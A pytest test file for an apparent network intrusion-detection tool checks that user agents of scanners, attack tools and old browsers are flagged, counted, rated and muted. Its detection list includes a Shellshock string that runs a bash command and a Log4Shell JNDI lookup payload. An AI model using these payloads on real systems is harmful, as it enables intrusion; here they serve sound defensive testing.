"""User agents of attackers' tools, and of what should not run any more."""

import pytest

from matchers.heuristics import agents
from matchers.heuristics.mutes import Mute, Mutes
from tests.matchers.heuristics.exchanges import ABROAD, FORMATS, HOME, Exchange, found, found_by_sensor, log
from tests.matchers.heuristics.questions import watched
from trailhound.trail import TrailKind

_TOOL, _OLD = "user-agent", "obsolete-user-agent"
_OUTSIDE = "198.51.100.9"
_TOOLS = {
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)": "masscan",
    "Mozilla/5.0 zgrab/0.x": "zgrab",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)": "nmap",
    "sqlmap/1.7.2#stable (https://sqlmap.org)": "sqlmap",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)": "nikto",
    "Mozilla/5.0 (Hydra)": "hydra",
    "Hello, World": "mirai",
    "() { :;}; /bin/bash -c 'id'": "shellshock",
    "${jndi:ldap://192.0.2.9/a}": "log4shell",
    "CertUtil URL Agent": "certutil",
    "Mozilla/4.0 (compatible; MSIE 6.1; Windows NT)": "metasploit",
    "Mozilla/4.08 (Charon; Inferno)": "lokibot",
}
_OBSOLETE = {
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)": "windows before vista",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 6.1)": "internet explorer before 7",
    "Mozilla/5.0 (Windows NT 6.1; rv:19.0) Gecko/20100101 Firefox/19.0": "firefox before 20",
    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.1 (KHTML, like Gecko) Chrome/21.0.1180.75": "chrome before 30",
    "Mozilla/5.0 (Linux; U; Android 2.3.6; en-us; GT-S5830) Mobile Safari/533.1": "android before 4",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 4_3_5 like Mac OS X; en-us)": "ios before 5",
}
_ORDINARY = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/126.0.6478.71 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/4.0 (compatible; FCT 5.6.0; Windows NT 5.1)",
    "Microsoft-CryptoAPI/10.0",
    "Microsoft BITS/7.8",
    "curl/8.5.0",
    "Wget/1.21",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Debian APT-HTTP/1.3 (2.6.1)",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B)",
)


def test_every_tool_and_program_has_a_name_of_its_own() -> None:
    names = [name for name, _ in (*agents.TOOLS, *agents.OBSOLETE)]
    assert len(set(names)) == len(names)


@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize(("name", "known"), [(_TOOL, _TOOLS), (_OLD, _OBSOLETE)])
def test_each_is_known_and_named(format_: str, name: str, known: dict[str, str]) -> None:
    for agent, what in known.items():
        (event,) = found(watched(_TOOL, _OLD), format_, [Exchange("/", agent=agent)])
        assert (event.ecs["rule.name"], event.trail.kind, event.trail.value) == (name, TrailKind.USER_AGENT, what)
        assert event.observed == agent


@pytest.mark.parametrize("format_", FORMATS)
def test_ordinary_ones_are_silent(format_: str) -> None:
    exchanges = [Exchange("/", agent=agent) for agent in (*_ORDINARY, None, "")]
    assert [event.message for event in found(watched(_TOOL, _OLD), format_, exchanges)] == []


def test_who_uses_it_rates_it() -> None:
    tool, old = next(iter(_TOOLS)), next(iter(_OBSOLETE))
    outside = [Exchange("/", agent=agent, client=_OUTSIDE, server=HOME) for agent in (tool, old)]
    (event,) = found(watched(_TOOL, _OLD), "zeek-tsv", outside)
    assert (event.ecs["rule.name"], event.severity.label) == (_TOOL, "low")
    (event,) = found(watched(_TOOL), "zeek-tsv", [Exchange("/", agent=tool)])
    assert event.severity.label == "medium"


def test_each_is_told_at_each_tenfold_or_once() -> None:
    tool, old = next(iter(_TOOLS)), next(iter(_OBSOLETE))
    exchanges = [Exchange(f"/{number}", agent=agent, time=number) for number in range(20) for agent in (tool, old)]
    events = found(watched(_TOOL, _OLD), "zeek-json", exchanges)
    assert sorted((event.ecs["rule.name"], event.count) for event in events) == [(_OLD, 1), (_TOOL, 1), (_TOOL, 9)]


def test_two_sensors_count_once_and_mutes_hold() -> None:
    exchanges = [Exchange("/", agent=agent) for agent in (next(iter(_TOOLS)), next(iter(_OBSOLETE)))]
    machine = watched(_TOOL, _OLD)
    assert len(found_by_sensor(machine, "one", "http", "eve", log("eve", exchanges))) == 2
    assert found_by_sensor(machine, "two", "http", "zeek-tsv", log("zeek-tsv", exchanges)) == []
    muted = Mutes([Mute(value="masscan"), Mute(rule=_OLD)])
    assert found(watched(_TOOL, _OLD, muted=muted), "zeek-tsv", exchanges) == []


@pytest.mark.parametrize("name", [_TOOL, _OLD])
def test_state_is_bounded_in_a_storm(name: str) -> None:
    agent = next(iter(_TOOLS if name == _TOOL else _OBSOLETE))
    machine = watched(name)
    storm = [
        Exchange("/", client=f"10.{number >> 16}.{number >> 8 & 255}.{number & 255}", agent=agent, server=ABROAD)
        for number in range(50_000)
    ]
    found(machine, "zeek-tsv", storm)
    assert machine.heuristics is not None
    assert 0 < machine.heuristics.held()[name] <= 45_000
